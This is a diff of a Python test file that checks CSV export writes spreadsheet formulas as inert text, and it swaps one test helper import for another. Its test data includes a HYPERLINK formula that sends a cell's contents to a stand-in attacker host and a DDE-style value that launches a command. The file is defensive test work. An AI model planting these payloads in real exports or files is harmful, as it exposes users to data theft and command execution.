@@ -16,9 +16,8 @@ from reviews.formats.reference import (
 )
 from reviews.models import Role
 from reviews.services.approval import approval_record
-from tests.builders import export_all, verify
+from tests.builders import approved_reference, export_all, verify
 from tests.factories import PASSWORD, member
-from tests.reviews.test_formats_reference import reference
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -44,7 +43,7 @@ def test_a_formula_value_is_written_as_text_and_reads_back(text):
 
 def test_formula_case_ids_and_values_round_trip_through_the_csv():
     ref = ApprovedReference.model_validate(
-        reference(
+        approved_reference(
             case_id="=cmd|' /C calc'!A0",
             approval=None,
             rows=[{"path": f"$.f{i}", "expected_value": text} for i, text in enumerate(FORMULAS)],
